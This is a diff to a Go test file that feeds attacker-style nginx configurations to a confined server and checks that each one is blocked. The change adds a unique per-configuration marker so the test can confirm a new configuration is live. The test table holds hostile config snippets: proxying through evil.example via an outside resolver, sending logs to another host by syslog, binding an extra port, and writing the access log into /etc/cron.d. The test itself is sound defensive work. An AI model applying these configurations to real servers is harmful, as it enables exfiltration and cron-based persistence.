@@ -4,7 +4,6 @@ package servers
 
 import (
 	"bytes"
-	"cmp"
 	"context"
 	"errors"
 	"fmt"
@@ -23,6 +22,8 @@ type nginx struct {
 	unit *unit
 	main *process
 	app  string // the application's address
+	// changes counts the configurations that it was given.
+	changes int
 }
 
 const (
@@ -178,6 +179,9 @@ func (n *nginx) load(label string) {
 func (n *nginx) misconfigure(file, text, instead string, then func() error) func() error {
 	return func() error {
 		s := n.unit.site
+		n.changes++
+		mark := fmt.Sprintf("up-%d", n.changes) // a worker with an older configuration does not say it
+		text := strings.Replace(text, upMark, mark, 1)
 		real := s.text(file)
 		before := len(s.text(nginxErrors))
 		changed := real + text
@@ -197,8 +201,9 @@ func (n *nginx) misconfigure(file, text, instead string, then func() error) func
 				err = errors.New(firstLine(why))
 				return true
 			}
-			_, err = n.visit("/up")
-			return err == nil
+			var answer string
+			answer, err = n.visit("/up")
+			return err == nil && answer == mark
 		})
 		if err != nil || then == nil {
 			return err
@@ -215,9 +220,12 @@ func (n *nginx) hangUp() {
 	}
 }
 
+// upMark stands for what is different in every configuration.
+const upMark = "UP-MARK"
+
 // evil is a server of an attacker's configuration that answers on the port that nginx has anyway.
 func evil(text string) string {
-	return "server { listen 8080; server_name evil; location /up { return 200 up; } " + text + " }\n"
+	return "server { listen 8080; server_name evil; location /up { return 200 " + upMark + "; } " + text + " }\n"
 }
 
 // visit asks the attacker's server. Error: it does not answer with 200.
@@ -273,8 +281,7 @@ func TestNginx(t *testing.T) {
 		attack{"proxy to another port", serve("/port", "proxy_pass http://"+bystander+"/;"), "connect", bystander, nil},
 		attack{"ask a DNS server", serve("/name", "resolver "+elsewhere+"; resolver_timeout 1s; set $to evil.example; proxy_pass http://$to;"), "connect", elsewhere + ":53", nil},
 		attack{"log to another host", n.misconfigure(nginxSite, evil("access_log syslog:server="+elsewhere+";"), "", func() error {
-			_, err := n.visit("/up")
-			return cmp.Or(err, errors.New("whether it came is seen there"))
+			return errors.New("whether it came is seen there")
 		}), "connect", elsewhere + ":514", nil},
 		attack{"listen on another port", n.misconfigure(nginxSite, evil("listen 8081;"), "", nil), "bind", "0.0.0.0:8081", nil},
 		attack{"log into cron.d", n.misconfigure(nginxSite, evil("access_log /etc/cron.d/nginx;"), "", nil), "write", "/etc/cron.d/nginx", written("/etc/cron.d/nginx")},
